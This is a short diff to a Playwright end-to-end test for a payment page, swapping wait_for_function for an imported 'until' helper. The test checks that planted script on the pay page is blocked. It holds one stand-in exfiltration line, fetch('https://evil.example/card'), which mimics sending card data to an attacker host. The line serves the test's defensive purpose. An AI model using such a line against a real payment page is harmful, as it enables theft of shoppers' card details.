@@ -12,7 +12,7 @@ from playwright.async_api import Browser, Route, expect
 
 from tests.callers import Api
 from tests.e2e.axe import grave
-from tests.e2e.browsers import person
+from tests.e2e.browsers import person, until
 from tests.e2e.deployments import PaymentServer, payment_server
 from tests.e2e.people import Advisor, Shopper
 from tests.e2e.test_purchase import TAMPER
@@ -248,7 +248,7 @@ async def test_what_is_planted_on_the_pay_page_does_not_run(
     )
     await page.page.evaluate("fetch('https://evil.example/card').catch(() => 0)")
     blocked = "window.reports.filter((one) => one.includes('evil.example')).length >= 6"
-    await page.page.wait_for_function(blocked)
+    await until(page.page, blocked)
     assert asked == []
     for frame in page.page.frames:
         assert not await frame.evaluate("Boolean(window.ran)"), frame.url
